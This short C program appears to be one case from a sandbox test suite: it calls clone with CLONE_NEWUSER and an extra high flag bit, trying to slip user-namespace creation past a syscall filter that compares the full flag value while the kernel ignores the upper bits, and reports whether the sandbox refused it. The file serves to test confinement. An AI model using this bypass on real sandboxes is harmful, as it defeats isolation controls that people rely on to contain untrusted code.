// Makes such a child by flags whose upper half is set, which a filter may compare and the kernel drops.

#include "attack.h"

int main(void) {
  long child = syscall(SYS_clone, (1ul << 40) | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) _exit(0);
  if (child < 0) refused("clone with high bits");
  won("a child is in a user namespace of its own");
}
